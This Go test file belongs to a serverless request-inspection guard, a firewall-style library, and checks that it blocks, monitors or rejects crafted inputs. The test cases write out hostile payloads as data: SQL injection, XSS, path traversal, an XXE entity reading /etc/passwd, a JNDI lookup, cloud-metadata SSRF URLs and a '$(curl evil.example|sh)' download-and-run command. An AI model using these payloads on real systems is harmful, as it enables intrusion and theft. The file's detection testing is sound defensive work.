package guard

import (
	"context"
	"encoding/json"
	"errors"
	"net/netip"
	"os"
	"strings"
	"sync"
	"testing"

	"go.uber.org/zap"
	"go.uber.org/zap/zaptest/observer"
)

func newTestGuard(t testing.TB, opts ...Option) (*Guard, *observer.ObservedLogs) {
	t.Helper()
	core, logs := observer.New(zap.DebugLevel)
	g, err := New(append([]Option{WithoutEnv(), WithLogger(zap.New(core)), WithLogRate(-1, 0)}, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	return g, logs
}

func httpInv(mutate func(*Invocation)) *Invocation {
	inv := &Invocation{
		Source:   SourceAPIGatewayREST,
		ClientIP: netip.MustParseAddr("203.0.113.7"),
		Method:   "GET",
		Route:    "/orders/{id}",
		Path:     "/orders/42",
		Headers: []Param{
			{"accept", "*/*"},
			{"user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"},
			{"x-amzn-trace-id", "Root=1-5e1b4151-5ac6c58f5b5d4f5e9ea6f7b3"},
		},
		Query:      []Param{{"q", "red shoes"}, {"page", "2"}},
		PathParams: []Param{{"id", "42"}},
	}
	if mutate != nil {
		mutate(inv)
	}
	return inv
}

func findingAt(d Decision, loc string, cat ...Category) *Finding {
	for i := range d.Findings {
		if d.Findings[i].Location == loc && (len(cat) == 0 || d.Findings[i].Category == cat[0]) {
			return &d.Findings[i]
		}
	}
	return nil
}

func TestInspectHTTP(t *testing.T) {
	g, _ := newTestGuard(t)
	cases := []struct {
		name   string
		mutate func(*Invocation)
		action Action
		status int
		loc    string
		cat    Category
	}{
		{"benign", nil, ActionAllow, 0, "", ""},
		{"loopback client in X-Forwarded-For", func(i *Invocation) {
			i.Headers = append(i.Headers, Param{"x-forwarded-for", "127.0.0.1, 10.0.0.7"})
		}, ActionAllow, 0, "", ""},
		{"benign JSON body", func(i *Invocation) {
			i.Method, i.ContentType = "POST", "application/json"
			i.Body = []byte(`{"name":"Seán O'Brien","note":"please select the blue one from the list","items":[{"sku":"A-1","qty":2}]}`)
		}, ActionAllow, 0, "", ""},
		{"sqli in query", func(i *Invocation) { i.Query[0].Value = "1' OR '1'='1' --" }, ActionBlock, 403, "query.q", SQLi},
		{"xss deep in JSON", func(i *Invocation) {
			i.Method, i.ContentType = "POST", "application/json"
			i.Body = []byte(`{"items":[{"note":"ok"},{"note":"fine"},{"note":"<script>alert(document.cookie)</script>"}]}`)
		}, ActionBlock, 403, "body.items[2].note", XSS},
		{"traversal in path parameter", func(i *Invocation) { i.PathParams[0].Value = "../../../../etc/passwd" }, ActionBlock, 403, "pathParameters.id", PathTraversal},
		{"cmdi in header", func(i *Invocation) { i.Headers = append(i.Headers, Param{"x-file", "a.txt; cat /etc/passwd"}) }, ActionBlock, 403, "headers.x-file", CmdI},
		{"jndi in user agent", func(i *Invocation) { i.Headers[1].Value = "${jndi:ldap://evil.example/a}" }, ActionBlock, 403, "headers.user-agent", JNDI},
		{"nosql operator as query key", func(i *Invocation) { i.Query = append(i.Query, Param{"password[$ne]", "x"}) }, ActionBlock, 403, `query["password[$ne]"]`, NoSQLi},
		{"prototype pollution key", func(i *Invocation) {
			i.Method, i.ContentType = "POST", "application/json"
			i.Body = []byte(`{"user":{"__proto__":{"isAdmin":true}}}`)
		}, ActionBlock, 403, "body.user.__proto__", ProtoPollution},
		{"form body", func(i *Invocation) {
			i.Method, i.ContentType = "POST", "application/x-www-form-urlencoded"
			i.Body = []byte("name=bob&next=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F")
		}, ActionBlock, 403, "body.next", SSRF},
		{"xxe in XML body", func(i *Invocation) {
			i.Method, i.ContentType = "POST", "application/xml"
			i.Body = []byte(`<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>`)
		}, ActionBlock, 403, "body", XXE},
		{"invalid JSON declared as JSON", func(i *Invocation) {
			i.Method, i.ContentType = "POST", "application/json"
			i.Body = []byte(`{"a": [1, 2`)
		}, ActionReject, 400, "body", Validation},
		{"duplicate keys", func(i *Invocation) {
			i.Method, i.ContentType = "POST", "application/json"
			i.Body = []byte(`{"role":"user","role":"admin"}`)
		}, ActionReject, 400, "body", Validation},
		{"too deep", func(i *Invocation) {
			i.Method, i.ContentType = "POST", "application/json"
			i.Body = []byte(strings.Repeat("[", 100000) + strings.Repeat("]", 100000))
		}, ActionReject, 400, "body", Validation},
		{"invalid UTF-8 in query", func(i *Invocation) { i.Query[0].Value = "caf\xe9" }, ActionReject, 400, "query.q", Validation},
		{"attack outranks malformed input", func(i *Invocation) {
			i.Query[0].Value = "<svg onload=alert(1)>"
			i.Method, i.ContentType, i.Body = "POST", "application/json", []byte(`{`)
		}, ActionBlock, 403, "query.q", XSS},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d := g.Inspect(context.Background(), httpInv(tc.mutate))
			if d.Action != tc.action || d.Status != tc.status {
				t.Fatalf("action %s status %d, want %s %d; findings %+v", d.Action, d.Status, tc.action, tc.status, d.Findings)
			}
			if tc.loc == "" {
				if len(d.Findings) != 0 {
					t.Fatalf("unexpected findings %+v", d.Findings)
				}
				return
			}
			f := findingAt(d, tc.loc, tc.cat)
			if f == nil {
				t.Fatalf("no finding at %s: %+v", tc.loc, d.Findings)
			}
			if f.Category != tc.cat || f.Rule == "" || f.Record != -1 {
				t.Fatalf("finding %+v, want category %s", f, tc.cat)
			}
		})
	}
}

func TestBodyLimit(t *testing.T) {
	g, _ := newTestGuard(t, WithMaxBodyBytes(100), WithMaxStringBytes(10))
	d := g.Inspect(context.Background(), httpInv(func(i *Invocation) {
		i.ContentType, i.Body = "text/plain", []byte(strings.Repeat("a", 101))
	}))
	if d.Action != ActionReject || d.Status != 413 || !strings.Contains(d.Reason, "FNGUARD_MAX_BODY_BYTES") {
		t.Fatalf("over-limit body: %+v", d)
	}
	d = g.Inspect(context.Background(), httpInv(func(i *Invocation) {
		i.ContentType, i.Body = "application/json", []byte(`{"a":"12345678901"}`)
	}))
	if d.Action != ActionReject || d.Status != 413 {
		t.Fatalf("over-limit string: %+v", d)
	}
}

func TestModes(t *testing.T) {
	attack := func(i *Invocation) { i.Query[0].Value = "1' UNION SELECT password FROM users--" }
	g, logs := newTestGuard(t, WithMode(Monitor))
	d := g.Inspect(context.Background(), httpInv(attack))
	if d.Action != ActionMonitor || !d.Allowed() || len(d.Findings) == 0 || d.Findings[0].Action != ActionMonitor {
		t.Fatalf("monitor: %+v", d)
	}
	if logs.Len() == 0 {
		t.Fatal("monitor mode wrote no log line")
	}
	g, _ = newTestGuard(t, WithMode(Off))
	if d := g.Inspect(context.Background(), httpInv(attack)); d.Action != ActionAllow || len(d.Findings) != 0 {
		t.Fatalf("off: %+v", d)
	}
	g, _ = newTestGuard(t, WithCategoryMode(SQLi, Monitor))
	if d := g.Inspect(context.Background(), httpInv(attack)); d.Action != ActionMonitor {
		t.Fatalf("sqli=monitor: %+v", d)
	}
	g, _ = newTestGuard(t, WithCategoryMode(SQLi, Off))
	if d := g.Inspect(context.Background(), httpInv(attack)); d.Action == ActionBlock {
		t.Fatalf("sqli=off still blocks: %+v", d)
	}
	g, _ = newTestGuard(t, WithMode(Monitor), WithCategoryMode(SQLi, Block))
	if d := g.Inspect(context.Background(), httpInv(attack)); d.Action != ActionBlock {
		t.Fatalf("monitor with sqli=block: %+v", d)
	}
}

func TestExclusions(t *testing.T) {
	body := []byte(`{"html":"<img src=x onerror=alert(1)>","items":[{"note":"<script>x</script>"}],"other":"<script>y</script>"}`)
	inv := func(i *Invocation) { i.Method, i.ContentType, i.Body = "POST", "application/json", body }
	g, _ := newTestGuard(t, WithExclusion("body.html", XSS), WithExclusion("body.items[*].note"))
	d := g.Inspect(context.Background(), httpInv(inv))
	if d.Action != ActionBlock || len(d.Findings) != 1 || d.Findings[0].Location != "body.other" {
		t.Fatalf("exclusions: %+v", d.Findings)
	}
	// An exclusion for another category does not hide XSS.
	g, _ = newTestGuard(t, WithExclusion("body.html", SQLi))
	if d := g.Inspect(context.Background(), httpInv(inv)); findingAt(d, "body.html") == nil {
		t.Fatalf("sqli exclusion hid xss: %+v", d.Findings)
	}
}

func TestExclusionByRuleID(t *testing.T) {
	body := []byte(`{"q":"' or 1=1 --","r":"1 union select 1,2","s":"' or 1=1 --"}`)
	inv := func(i *Invocation) { i.Method, i.ContentType, i.Body = "POST", "application/json", body }
	g, _ := newTestGuard(t, WithExclusion("body.q", "sqli.tautology"), WithExclusion("body.r", "sqli.tautology"))
	d := g.Inspect(context.Background(), httpInv(inv))
	if findingAt(d, "body.q") != nil {
		t.Errorf("rule exclusion did not hide sqli.tautology at body.q: %+v", d.Findings)
	}
	// Another rule of the same category at an excluded location is still reported.
	if f := findingAt(d, "body.r"); f == nil || f.Rule != "sqli.union" {
		t.Errorf("sqli.union at body.r: %+v", d.Findings)
	}
	// The same rule at a location that is not excluded is still reported.
	if f := findingAt(d, "body.s"); f == nil || f.Rule != "sqli.tautology" {
		t.Errorf("sqli.tautology at body.s: %+v", d.Findings)
	}
	for _, bad := range []Category{"sqli.nope", "nope"} {
		if _, err := New(WithExclusion("body.q", bad)); err == nil || !strings.Contains(err.Error(), "WithExclusion") || !strings.Contains(err.Error(), string(bad)) {
			t.Errorf("WithExclusion(%q): err = %v, want a config error naming WithExclusion and the value", bad, err)
		}
	}
}

func TestDenyPattern(t *testing.T) {
	g, _ := newTestGuard(t, WithDenyPattern("internal-host", `(?i)corp\.internal`))
	d := g.Inspect(context.Background(), httpInv(func(i *Invocation) { i.Query[0].Value = "see wiki.CORP.internal" }))
	if d.Action != ActionBlock || d.Findings[0].Category != Custom || d.Findings[0].Rule != "custom.internal-host" {
		t.Fatalf("custom rule: %+v", d)
	}
}

func TestAllowlists(t *testing.T) {
	cases := []struct {
		name string
		opt  Option
		inv  func(*Invocation)
		rule string
	}{
		{"method", WithAllowMethods("POST"), nil, "allowlist.method"},
		{"route", WithAllowRoutes("GET /users/*"), nil, "allowlist.route"},
		{"content type", WithAllowContentTypes("application/json"), func(i *Invocation) {
			i.ContentType, i.Body = "text/plain", []byte("hello")
		}, "allowlist.content_type"},
		{"source cidr", WithAllowSourceCIDRs(netip.MustParsePrefix("10.0.0.0/8")), nil, "allowlist.source_cidr"},
		{"deny cidr", WithDenySourceCIDRs(netip.MustParsePrefix("203.0.113.0/24")), nil, "allowlist.source_denied"},
		{"no authorizer", WithRequireAuthorizer(), nil, "caller.no_authorizer"},
		{"claim", WithRequireClaims(map[string]string{"iss": "https://id.example.com"}), func(i *Invocation) {
			i.Principal = &Principal{ID: "u1", Claims: map[string]string{"iss": "https://evil.example.com"}}
		}, "caller.claim"},
		{"scope", WithRequireScopes("orders:write"), func(i *Invocation) {
			i.Principal = &Principal{ID: "u1", Scopes: []string{"orders:read"}}
		}, "caller.scope"},
		{"webhook", WithWebhookSecret(WebhookGitHub, []byte("s3cr3t"), "", 0), func(i *Invocation) {
			i.Body = []byte(`{"action":"opened"}`)
			i.Headers = append(i.Headers, Param{"x-hub-signature-256", "sha256=0000"})
		}, "caller.webhook_signature"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			g, _ := newTestGuard(t, tc.opt)
			d := g.Inspect(context.Background(), httpInv(tc.inv))
			if d.Action != ActionBlock || d.Status != 403 || len(d.Findings) == 0 || d.Findings[0].Rule != tc.rule {
				t.Fatalf("want a 403 block by %s, got %+v", tc.rule, d)
			}
		})
	}
	// And the allowed side of each.
	g, _ := newTestGuard(t, WithAllowMethods("GET"), WithAllowRoutes("GET /orders/{id}"), WithAllowSourceCIDRs(netip.MustParsePrefix("203.0.113.0/24")),
		WithRequireClaims(map[string]string{"iss": "https://id.example.com"}), WithRequireScopes("orders:read"))
	d := g.Inspect(context.Background(), httpInv(func(i *Invocation) {
		i.Principal = &Principal{ID: "u1", Claims: map[string]string{"iss": "https://id.example.com"}, Scopes: []string{"orders:read"}}
	}))
	if d.Action != ActionAllow {
		t.Fatalf("allowed request blocked: %+v", d)
	}
}

func TestRoutes(t *testing.T) {
	cases := []struct {
		glob, method, route string
		want                bool
	}{
		{"/orders/{id}", "GET", "/orders/{id}", true},
		{"/orders/*", "GET", "/orders/42", true},
		{"/orders/*", "GET", "/orders/42/items", false},
		{"/orders/**", "GET", "/orders/42/items", true},
		{"GET /orders/*", "POST", "/orders/42", false},
		{"GET /orders/{id}", "GET", "GET /orders/{id}", true},
		{"ANY /x", "DELETE", "/x", true},
		{"$default", "GET", "$default", true},
		{"/{proxy+}", "GET", "/a/b/c", true},
	}
	for _, tc := range cases {
		t.Run(tc.glob+" "+tc.route, func(t *testing.T) {
			if got := matchRoute([]string{tc.glob}, tc.method, tc.route); got != tc.want {
				t.Fatalf("got %v", got)
			}
		})
	}
}

func TestRecords(t *testing.T) {
	g, _ := newTestGuard(t, WithAllowEventSources("arn:aws:sqs:eu-west-1:123456789012:orders"))
	inv := &Invocation{Source: SourceSQS, Records: []Record{
		{ID: "m0", EventSource: "arn:aws:sqs:eu-west-1:123456789012:orders", Body: []byte(`{"note":"fine"}`)},
		{ID: "m1", EventSource: "arn:aws:sqs:eu-west-1:123456789012:orders", Body: []byte(`{"items":[{"name":"x"},{"name":"'; DROP TABLE users;--"}]}`)},
		{ID: "m2", EventSource: "arn:aws:sqs:eu-west-1:999999999999:other", Body: []byte(`plain text`)},
		{ID: "m3", EventSource: "arn:aws:sqs:eu-west-1:123456789012:orders", Body: []byte(`not json {`), Fields: []Field{{Loc: "messageAttributes.kind", Value: "$(curl evil.example|sh)"}}},
	}}
	d := g.Inspect(context.Background(), inv)
	if d.Action != ActionBlock || !d.Partial() {
		t.Fatalf("want a partial block: %+v", d)
	}
	if got := d.BlockedRecords; len(got) != 3 || got[0] != 1 || got[1] != 2 || got[2] != 3 {
		t.Fatalf("blocked records %v", got)
	}
	if f := findingAt(d, "records[1].body.items[1].name"); f == nil || f.Category != SQLi || f.Record != 1 {
		t.Fatalf("sqli location: %+v", d.Findings)
	}
	if f := findingAt(d, "records[2].eventSource"); f == nil || f.Rule != "allowlist.event_source" {
		t.Fatalf("event source: %+v", d.Findings)
	}
	if f := findingAt(d, "records[3].messageAttributes.kind"); f == nil || f.Category != CmdI {
		t.Fatalf("attribute: %+v", d.Findings)
	}
	var be *BlockedError
	if err := d.Err(); !errors.As(err, &be) || !errors.Is(err, ErrBlocked) {
		t.Fatalf("Err() = %v", err)
	}
}

// Locations inside records are absolute whatever found them: a detector,
// a limit, a malformed body or a policy check.
func TestRecordLocations(t *testing.T) {
	g, _ := newTestGuard(t, WithMaxStringBytes(64), WithAllowEventTypes("ok"))
	long := strings.Repeat("a", 65)
	tests := []struct {
		name string
		rec  Record
		loc  string
	}{
		{"detector in JSON body", Record{EventType: "ok", Body: []byte(`{"a":[1,{"b":"<script>alert(1)</script>"}]}`)}, "records[1].body.a[1].b"},
		{"detector in text body", Record{EventType: "ok", Body: []byte(`$(curl evil.example|sh)`)}, "records[1].body"},
		{"detector in JSON field", Record{EventType: "ok", Fields: []Field{{Loc: "dynamodb.NewImage", Value: `{"note":{"S":"' OR 1=1--"}}`, JSON: true}}}, "records[1].dynamodb.NewImage.note.S"},
		{"string too long in a JSON field", Record{EventType: "ok", Fields: []Field{{Loc: "detail", Value: `{"k":"` + long + `"}`, JSON: true}}}, "records[1].detail"},
		{"string too long in a sniffed body", Record{EventType: "ok", Body: []byte(`{"k":"` + long + `"}`)}, "records[1].body"},
		{"invalid UTF-8", Record{EventType: "ok", Body: []byte("caf\xe9")}, "records[1].body"},
		{"JSON too deep", Record{EventType: "ok", Body: []byte(strings.Repeat("[", 100) + strings.Repeat("]", 100))}, "records[1].body"},
		{"event type", Record{EventType: "nope"}, "records[1].eventType"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			inv := &Invocation{Source: SourceSQS, Records: []Record{{EventType: "ok", Body: []byte(`{"clean":true}`)}, tc.rec}}
			d := g.Inspect(context.Background(), inv)
			if len(d.Findings) == 0 || d.Findings[0].Location != tc.loc || d.Findings[0].Record != 1 {
				t.Fatalf("want a finding at %s in record 1: %+v", tc.loc, d.Findings)
			}
			if strings.Contains(d.Reason, "records[1].records[1]") {
				t.Fatalf("doubled prefix in %q", d.Reason)
			}
		})
	}
}

func TestAccountAllowlist(t *testing.T) {
	const home = "123456789012"
	eb := func(source, account string) Record {
		return Record{ID: "e", EventSource: source, EventType: "Order Placed", Account: account, Body: []byte(`{"id":1}`)}
	}
	sqs := func(acct string) Record {
		return Record{ID: "m", EventSource: "arn:aws:sqs:eu-west-1:" + acct + ":orders"}
	}
	tests := []struct {
		name    string
		allow   []string
		rec     Record
		blocked bool
		rule    string
	}{
		{"eventbridge home account", []string{"account:" + home}, eb("com.example.orders", home), false, ""},
		{"eventbridge foreign account", []string{"account:" + home}, eb("com.example.orders", "999999999999"), true, "allowlist.account"},
		{"eventbridge account missing", []string{"account:" + home}, eb("com.example.orders", ""), true, "allowlist.account"},
		{"account glob", []string{"account:1234567890*"}, eb("com.example.orders", home), false, ""},
		{"source and account both pass", []string{"com.example.*", "account:" + home}, eb("com.example.orders", home), false, ""},
		{"source fails though account passes", []string{"com.example.*", "account:" + home}, eb("attacker.src", home), true, "allowlist.event_source"},
		{"account from an SQS ARN", []string{"account:" + home}, sqs(home), false, ""},
		{"foreign SQS ARN", []string{"account:" + home}, sqs("999999999999"), true, "allowlist.account"},
		{"S3 bucket ARN has no account", []string{"account:" + home}, Record{ID: "s", EventSource: "arn:aws:s3:::bucket"}, true, "allowlist.account"},
		{"source list alone ignores account", []string{"com.example.orders"}, eb("com.example.orders", "999999999999"), false, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			g, _ := newTestGuard(t, WithAllowEventSources(tc.allow...))
			d := g.Inspect(context.Background(), &Invocation{Source: SourceEventBridge, Records: []Record{tc.rec}})
			if got := d.Action == ActionBlock; got != tc.blocked {
				t.Fatalf("blocked = %v, want %v: %+v", got, tc.blocked, d.Findings)
			}
			if tc.blocked && (len(d.Findings) == 0 || d.Findings[0].Rule != tc.rule) {
				t.Fatalf("want rule %s: %+v", tc.rule, d.Findings)
			}
		})
	}
	for _, bad := range []string{"account:", "account:12345", "account:abc123456789", "account:1234567890123"} {
		t.Run("config "+bad, func(t *testing.T) {
			_, err := New(WithoutEnv(), WithAllowEventSources(bad))
			var ce *ConfigError
			if !errors.As(err, &ce) || ce.Var != "FNGUARD_ALLOW_EVENT_SOURCES" || !strings.Contains(err.Error(), "12 digits") {
				t.Fatalf("err = %v", err)
			}
		})
	}
}

// An SNS signing certificate that cannot be fetched is an outage, not a
// forged message: the fail mode decides, and the caller is not blamed.
func TestSNSCertFetchFollowsFailMode(t *testing.T) {
	raw, err := os.ReadFile("verify/testdata/sns-notification-v1.json")
	if err != nil {
		t.Fatal(err)
	}
	var m SNSMessage
	if err := json.Unmarshal(raw, &m); err != nil {
		t.Fatal(err)
	}
	unreachable := func(string) ([]byte, error) { return nil, errors.New("dial tcp: i/o timeout") }
	inv := func() *Invocation {
		return &Invocation{Source: SourceSNS, Records: []Record{{ID: m.MessageID, EventSource: m.TopicARN, SNS: &m, Body: []byte(m.Message)}}}
	}
	t.Run("fail closed", func(t *testing.T) {
		g, _ := newTestGuard(t, WithSNSSignatureVerification(unreachable))
		d := g.Inspect(context.Background(), inv())
		if d.Action != ActionFail || d.Status != 503 || !errors.Is(d.Err(), ErrFailed) || len(d.BlockedRecords) != 0 {
			t.Fatalf("want a failed invocation Lambda retries: %+v", d)
		}
		if f := d.Findings[0]; f.Rule != "caller.sns_cert_unavailable" || !strings.Contains(d.Reason, "i/o timeout") {
			t.Fatalf("finding %+v reason %q", f, d.Reason)
		}
	})
	t.Run("fail open", func(t *testing.T) {
		g, _ := newTestGuard(t, WithSNSSignatureVerification(unreachable), WithFailMode(FailOpen))
		d := g.Inspect(context.Background(), inv())
		if !d.Allowed() || len(d.Findings) != 1 || d.Findings[0].Action != ActionMonitor {
			t.Fatalf("want a logged pass: %+v", d)
		}
	})
	t.Run("an attack still blocks", func(t *testing.T) {
		g, _ := newTestGuard(t, WithSNSSignatureVerification(unreachable))
		in := inv()
		in.Records[0].Fields = []Field{{Loc: "Sns.Subject", Value: "'; DROP TABLE users;--"}}
		d := g.Inspect(context.Background(), in)
		if d.Action != ActionBlock || !errors.Is(d.Err(), ErrBlocked) {
			t.Fatalf("want a block: %+v", d)
		}
	})
	t.Run("a bad signature blames the caller", func(t *testing.T) {
		g, _ := newTestGuard(t, WithSNSSignatureVerification(func(string) ([]byte, error) { return []byte("not a certificate"), nil }))
		d := g.Inspect(context.Background(), inv())
		if d.Action != ActionBlock || d.Findings[0].Category != Caller {
			t.Fatalf("want a caller block: %+v", d)
		}
	})
}

func TestFailModes(t *testing.T) {
	boom := errors.New("mapping exploded")
	g, logs := newTestGuard(t)
	d := g.Fail(context.Background(), &Invocation{Source: SourceSQS}, boom)
	if d.Action != ActionFail || d.Status != 503 || !errors.Is(d.Err(), ErrFailed) || logs.Len() == 0 {
		t.Fatalf("fail closed: %+v", d)
	}
	g, _ = newTestGuard(t, WithFailMode(FailOpen))
	if d := g.Fail(context.Background(), nil, boom); !d.Allowed() || d.Reason == "" {
		t.Fatalf("fail open: %+v", d)
	}
	var nilGuard *Guard
	if d := nilGuard.Inspect(context.Background(), httpInv(nil)); d.Action != ActionFail || d.Status != 503 {
		t.Fatalf("nil guard: %+v", d)
	}
}

func TestInspectRecoversPanics(t *testing.T) {
	g, _ := newTestGuard(t)
	// A Record whose SNS pointer is set without a verifier is fine; force a
	// panic through a nil detector instead.
	g.det = nil
	d := g.Inspect(context.Background(), httpInv(nil))
	if d.Action != ActionFail || d.Status != 503 || !strings.Contains(d.Reason, "panic") {
		t.Fatalf("panic not turned into a fail-closed decision: %+v", d)
	}
	g2, _ := newTestGuard(t, WithFailMode(FailOpen))
	g2.det = nil
	if d := g2.Inspect(context.Background(), httpInv(nil)); !d.Allowed() {
		t.Fatalf("fail open after panic: %+v", d)
	}
}

func TestExcerptsRedacted(t *testing.T) {
	g, logs := newTestGuard(t)
	d := g.Inspect(context.Background(), httpInv(func(i *Invocation) {
		i.Headers = append(i.Headers, Param{"authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJlc2lnbmF0dXJl' OR 1=1--"})
		i.Query[0].Value = "<script>alert('4111 1111 1111 1111')</script>"
	}))
	if d.Action != ActionBlock {
		t.Fatalf("%+v", d)
	}
	for _, f := range d.Findings {
		if strings.Contains(f.Excerpt, "eyJ") || strings.Contains(f.Excerpt, "4111 1111") {
			t.Errorf("secret in excerpt: %+v", f)
		}
	}
	for _, e := range logs.All() {
		for k, v := range e.ContextMap() {
			if s, ok := v.(string); ok && (strings.Contains(s, "eyJhbGci") || strings.Contains(s, "4111 1111 1111 1111")) {
				t.Errorf("secret in log field %s: %s", k, s)
			}
		}
	}
}

func TestConcurrentInspect(t *testing.T) {
	g, _ := newTestGuard(t)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				bad := (i+w)%3 == 0
				inv := httpInv(func(inv *Invocation) {
					if bad {
						inv.Query[0].Value = "x' or 1=1 --"
					}
				})
				d := g.Inspect(context.Background(), inv)
				if bad != (d.Action == ActionBlock) {
					t.Errorf("worker %d iteration %d: %+v", w, i, d)
					return
				}
			}
		}(w)
	}
	wg.Wait()
}

func TestSanitizeRequiresLink(t *testing.T) {
	_, err := New(WithoutEnv(), WithSanitizeHTML("ugc", "comment"))
	if err == nil || !strings.Contains(err.Error(), "guard/sanitize") {
		t.Fatalf("want an error telling to import guard/sanitize, got %v", err)
	}
}

func TestLastKey(t *testing.T) {
	for loc, want := range map[string]string{
		"headers.authorization": "authorization", `body["api key"]`: "api key", "body.items[2]": "items", "path": "path",
	} {
		if got := lastKey(loc); got != want {
			t.Errorf("lastKey(%q) = %q, want %q", loc, got, want)
		}
	}
}

func BenchmarkInspectTypical(b *testing.B) {
	g, _ := newTestGuard(b)
	inv := httpInv(func(i *Invocation) {
		i.Method, i.ContentType = "POST", "application/json"
		i.Body = []byte(`{"customer":{"name":"Ana O'Neil","email":"ana@example.com"},"items":[{"sku":"A-1","qty":2,"note":"gift wrap please"},{"sku":"B-7","qty":1}],"coupon":"SPRING-24"}`)
	})
	ctx := context.Background()
	b.ReportAllocs()
	for b.Loop() {
		if d := g.Inspect(ctx, inv); d.Action != ActionAllow {
			b.Fatal(d)
		}
	}
}

func BenchmarkNew(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		if _, err := New(WithoutEnv(), WithLogger(zap.NewNop())); err != nil {
			b.Fatal(err)
		}
	}
}

func TestNewCategories(t *testing.T) {
	ua := func(v string) func(*Invocation) {
		return func(i *Invocation) { i.Headers[1].Value = v }
	}
	// An attack tool is logged, not blocked, by default.
	g, _ := newTestGuard(t)
	d := g.Inspect(context.Background(), httpInv(ua("sqlmap/1.8#stable (https://sqlmap.org)")))
	f := findingAt(d, "headers.user-agent", AttackTool)
	if f == nil || f.Rule != "tool.signature" || f.Action != ActionMonitor || d.Action == ActionBlock {
		t.Fatalf("attack tool default: action %v findings %+v", d.Action, d.Findings)
	}
	// ... and blocked when its category mode says so.
	g, _ = newTestGuard(t, WithCategoryMode(AttackTool, Block))
	if d := g.Inspect(context.Background(), httpInv(ua("sqlmap/1.8#stable (https://sqlmap.org)"))); d.Action != ActionBlock {
		t.Fatalf("attack_tool=block: %+v", d)
	}
	t.Setenv("FNGUARD_CATEGORY_MODES", "attack_tool=block,crlf=monitor")
	ge, err := New()
	if err != nil {
		t.Fatal(err)
	}
	if ge.categoryMode(AttackTool) != Block || ge.categoryMode(CRLF) != Monitor {
		t.Fatalf("env modes: attack_tool %v crlf %v", ge.categoryMode(AttackTool), ge.categoryMode(CRLF))
	}
	// CRLF and deserialisation block by default.
	g, _ = newTestGuard(t)
	for _, tc := range []struct {
		v   string
		cat Category
	}{
		{"en%0d%0aSet-Cookie:%20admin=1", CRLF},
		{`O:4:"User":1:{s:5:"admin";b:1;}`, Deserialization},
	} {
		d := g.Inspect(context.Background(), httpInv(func(i *Invocation) { i.Query[0].Value = tc.v }))
		if d.Action != ActionBlock || findingAt(d, "query.q", tc.cat) == nil {
			t.Errorf("%q: want a blocking %s finding at query.q, got %v %+v", tc.v, tc.cat, d.Action, d.Findings)
		}
	}
}

// TestOddNameJoined: a query or cookie pair is split at its first '=', so
// an attack with an '=' in it arrives as an odd name and a short value;
// such a name (a blank, a quote, a parenthesis in it) is judged again
// joined with its value. Ordinary names, and odd ones whose pair reads as
// text, pass.
func TestOddNameJoined(t *testing.T) {
	g, _ := newTestGuard(t)
	for _, tc := range []struct {
		name    string
		query   []Param
		cookies []Param
		block   bool
	}{
		{"query tautology split at '='", []Param{{"x' OR '1'", "'1"}}, nil, true},
		{"cookie tautology split at '='", nil, []Param{{"' or 1", "1--"}}, true},
		{"query event handler split at '='", []Param{{`x" onmouseover`, `"alert(1)`}}, nil, true},
		{"ordinary names", []Param{{"q", "red shoes"}, {"filter[size]", "M"}}, []Param{{"session", "abc123"}}, false},
		{"odd names that read as text", []Param{{"first name", "Bob"}, {"what's new", "nothing much"}}, []Param{{"my pref", "dark mode"}}, false},
		{"a cookies entry with a line break", nil, AppendCookies(nil, "a=1; \r\nSet-Cookie: admin=1"), true},
		{"a cookies entry with blanks", nil, AppendCookies(nil, " a = 1 ;\tb=2 "), false},
		{"a query without '='", []Param{{"http://169.254.169.254/latest/meta-data/", ""}}, nil, true},
		{"a cookies entry without '='", nil, AppendCookies(nil, "http://0x7f000001/admin"), true},
		{"flags without values", []Param{{"debug", ""}, {"verbose", ""}}, AppendCookies(nil, "optout"), false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := g.Inspect(context.Background(), httpInv(func(i *Invocation) { i.Query, i.Cookies = tc.query, tc.cookies }))
			if got := d.Action == ActionBlock; got != tc.block {
				t.Fatalf("blocked = %v, want %v: %+v", got, tc.block, d.Findings)
			}
		})
	}
}

// TestOddFormNameJoined: a body read as a form splits an attack at its
// first '=' too ("admin'/**/or/**/1" and "1#"); the odd name is judged
// again joined with its value.
func TestOddFormNameJoined(t *testing.T) {
	g, _ := newTestGuard(t)
	for _, tc := range []struct {
		body  string
		block bool
	}{
		{"admin'/**/or/**/1=1#", true},
		{"user=bob&x' OR '1'='1", true},
		{"user=bob&note=hello+world", false},
		{"first+name=Bob&what's+new=nothing", false},
	} {
		t.Run(tc.body, func(t *testing.T) {
			d := g.Inspect(context.Background(), &Invocation{Source: SourceHTTP, Method: "POST", Path: "/p",
				ContentType: "application/x-www-form-urlencoded", Body: []byte(tc.body)})
			if got := d.Action == ActionBlock; got != tc.block {
				t.Fatalf("blocked = %v, want %v: %+v", got, tc.block, d.Findings)
			}
		})
	}
}
